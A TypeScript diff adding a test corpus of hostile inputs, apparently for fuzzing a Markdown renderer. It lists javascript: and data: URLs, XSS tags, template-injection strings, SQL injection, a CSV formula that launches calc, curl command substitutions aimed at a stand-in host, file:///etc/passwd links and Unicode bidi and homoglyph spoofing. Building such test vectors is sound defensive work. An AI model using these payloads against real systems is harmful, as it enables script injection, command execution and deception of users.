@@ -1,0 +1,23 @@
+/** Links and images of Markdown, words that templates, catalogues and terminals would obey, and letters that turn a text about or hide in it. */
+import type { Vectors } from './corpus.ts';
+
+export const links: Vectors = ({ R, C }) => {
+  const addresses = [
+    `javascript:${R}`, `JaVaScRiPt:${R}`, ` javascript:${R}`, `\tjavascript:${R}`, `java\tscript:${R}`, `java&#10;script:${R}`, `java&Tab;script:${R}`, `&#106;avascript:${R}`, `&#x6A;avascript&colon;${R}`, `javascript&colon;${R}`, `\u0001javascript:${R}`, `javascript\u200b:${R}`, `javascript:/*--></title></style></textarea></script><svg/onload=${R}>`, `javascript://%0a${R}`, `vbscript:${R}`, `livescript:${R}`, `mocha:${R}`,
+    `data:text/html,<script>${R}</script>`, `data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${R}>`, `data:application/xhtml+xml,x`, 'data:,x', `blob:${C}/x`, `filesystem:${C}/temporary/x`, `view-source:${C}`, 'about:blank', 'file:///etc/passwd', 'file://localhost/c:/windows/system32/calc.exe', 'smb://evil.example/x', '\\\\evil.example\\x', `//${C.slice(7)}/x`, `///${C.slice(7)}/x`, `/\\${C.slice(7)}/x`, '/ask', '#x', '?x', '../x', `${C}/x`, `https:${C.slice(7)}`, `${C}@127.0.0.1/`, `http://user:secret@${C.slice(7)}/`, 'https://аpple.example/', 'https://platform.example\u202e/moc.live//:sptth',
+    'ms-msdt:/id PCWDiagnostic', 'search-ms:query=x&crumb=location:\\\\evil', 'ms-officecmd:{}', 'vscode://file/x', 'slack://open', 'steam://run/1', 'tel:*2767*3855%23', 'sms:+1?body=x', 'mailto:x@y?attach=/etc/passwd', 'ssh://-oProxyCommand=x', 'git://evil/x', 'intent://x#Intent;scheme=x;end', 'chrome://settings', 'devtools://x', 'app://scriba/../x', 'scriba://open?x', 'web+x:y', 'x-apple.systempreferences:', 'ws://127.0.0.1/notices',
+  ];
+  const [first] = addresses as [string];
+  return [
+    ...addresses.map((address, at) => [`[press here](${address})`, `[press here](<${address}>)`, `![press here](${address})`, `<${address.replace(/\s/g, '')}>`][at % 4]!),
+    `[a](${first} "title")`, `[a]: ${first}\n[a]`, `[a]: <${first}>\n![a]`, `[a]: ${C}/ref\n[a][a] ![a][a]`, `[![x](${C}/i)](${first})`, `![x](${C}/tracker.png "t")`, `${C}/bare`, `www.${C.slice(7)}/bare`, `<${C}/auto>`, 'x@evil.example', `[x](${C}/a)[y](${C}/b)`, `[x](<javascript:${R}>)`, `[x](javascript&#58;${R})`, `[x](\\javascript:${R})`, `[x\n](${first})`, `[^1]\n\n[^1]: ${first} <img src=x onerror=${R}>`, `[^__proto__]\n\n[^__proto__]: x`, `| [a](${first}) | ![b](${C}/t) |\n|---|---|\n| <img src=x onerror=${R}> | \`</td><script>${R}</script>\` |`, `- [x] <input autofocus onfocus=${R}>`, `\`\`\`html\n<script>${R}</script>\n\`\`\``, `    <script>${R}</script>`, `# <img src=x onerror=${R}>`, `> <svg onload=${R}>`, `\\<script>${R}\\</script>`, `[//]: # (<script>${R}</script>)`, `<details><summary>[x](${first})</summary></details>`, `a<!-- -->b<b onmouseover=${R}>c</b>`, `[constructor]: ${C}/c\n[constructor] [__proto__] [toString]`, `~~~ <script>${R}</script>\nx\n~~~`, `\`\`\`"onmouseover="${R}\nx\n\`\`\``,
+  ];
+};
+
+export const templates: Vectors = ({ R, C }) => [
+  `{{constructor.constructor('${R}')()}}`, `{{${R}}}`, `\${${R}}`, `#{${R}}`, `<%= ${R} %>`, `{% import os %}`, `{{{name}}}`, '{{name}}', '{{count}}', '{{alt}}', '{{- name}}', '$t(note.none)', '$t(document.image, {"alt":"$t(note.none)"})', '{{name, uppercase}}', '__name__', '%(name)s', '%s%s%n', '{0}', '[[name]]', 'note.none', 'template.constructor', 'constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', 'then', '$bytes', '$$bytes', 'undefined', 'null', 'NaN', '[object Object]', '0', '-0', ' ', '\u00a0', '.', ':', 'a.b.c', 'a:b', '=cmd|\'/c calc\'!A1', '@SUM(1+1)', '+1', '-1+1', '\tx', "'; DROP TABLE notes; --", `"; fetch('${C}/q'); "`, `$(curl ${C})`, `\`curl ${C}\``, '../../../etc/passwd', 'con.txt', '\x1b[31mred\x1b[0m', '\x1b]8;;http://evil.example\x07x\x1b]8;;\x07', '\x07\x08\x0c\x7f', '\r\nSet-Cookie: x=y', '\u2028\u2029',
+];
+
+export const turning: Vectors = () => [
+  'dose \u202e05\u202c mg', '\u202egnp.exe', '\u202dabc\u202e', '\u2066\u2067\u2068abc', 'abc\u2069\u2069\u2069', '\u061c١٢٣', 'a\u200bb\u200cc\u200dd', '\ufeffx\ufeff', 'x\u2060y\u2061z', '\u00adsoft\u00adhyphen', '\u115f\u1160\u3164\uffa0', 'pаypаl', 'ＡＢＣ＜ｓｃｒｉｐｔ＞', `Z${'\u0300\u0301\u0302\u0303\u0304'.repeat(40)}algo`, '\u0e49'.repeat(60), '👩‍👩‍👧‍👦🏴\u{e0067}\u{e0062}\u{e007f}', '\ud800', 'a\udc00', '\ufffe\uffff', '\u0000', '﷽'.repeat(20), 'ന്‍ ക്‌ഷ', 'क्‍ष', 'مرحبا abc 123 שלום', '\u0600\u06dd\u070f', 'x'.repeat(400), 'क'.repeat(300), '\u180e\u2000\u2003\u202f\u3000', '🩺'.repeat(100), 'ſcript İ ı K', '\u{e0001}\u{e0041}',
+];
